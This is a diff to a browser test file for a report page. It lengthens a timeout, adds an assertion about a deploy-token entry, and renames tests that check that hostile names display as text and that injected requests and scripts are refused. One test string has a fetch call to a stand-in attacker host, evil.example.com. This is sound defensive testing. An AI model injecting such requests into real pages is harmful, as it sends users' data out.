@@ -4,7 +4,7 @@ import { column, type OpenPage, Reader } from "./browser";
 import { ATTACKS, EMPTY, HISTORY, HOSTILE, INCOMPLETE, largeReport, USUAL, WITHOUT_STATES } from "./reports";
 
 describe("the page of a report, in a browser", function () {
-	this.timeout(60_000);
+	this.timeout(120_000);
 	let reader: Reader;
 	const opened: OpenPage[] = [];
 
@@ -225,12 +225,14 @@ describe("the page of a report, in a browser", function () {
 		expect(outline).to.equal("solid");
 		await press("Tab", "Tab", "Tab", "Tab", "Tab", "Tab", "Tab", "Tab", "Enter");
 		expect(await focused()).to.equal("forever");
-		expect(await page.locator("tr.details").innerText()).to.contain("gitlab+deploy-token-10");
+		expect(await page.locator("tr.details").innerText())
+			.to.contain("gitlab+deploy-token-10")
+			.and.match(/Created\s+not known/);
 		await press("Enter");
 		expect(await page.locator("tr.details").count()).to.equal(0);
 	});
 
-	it("shows hostile names as text, and none of them does anything", async () => {
+	it("shows hostile names as text, and runs none of them", async () => {
 		const page = await open(HOSTILE, { viewport: { width: 1000, height: 800 } });
 		for (const summary of await page.locator(".group > summary").all()) await summary.click();
 		for (const opener of await page.locator(".opener").all()) await opener.click();
@@ -244,7 +246,7 @@ describe("the page of a report, in a browser", function () {
 			expect((await row.boundingBox())?.height).to.be.lessThan(200);
 	});
 
-	it("lets nothing out, and runs nothing that is not its own", async () => {
+	it("refuses requests and scripts that are injected into it", async () => {
 		const one = await reader.open(USUAL);
 		const tries = {
 			fetch: "fetch('https://evil.example.com').then(() => 'sent', () => 'refused')",
